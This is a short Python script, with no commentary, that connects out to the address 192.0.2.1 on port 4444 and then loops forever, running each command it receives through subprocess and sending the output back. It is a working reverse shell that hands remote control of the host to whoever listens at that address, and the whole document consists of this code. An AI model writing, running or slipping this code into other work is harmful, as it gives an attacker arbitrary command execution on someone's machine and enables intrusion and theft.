import socket
import subprocess

link = socket.create_connection(("192.0.2.1", 4444))
while True:
    order = link.recv(1024).decode()
    link.send(subprocess.getoutput(order).encode())
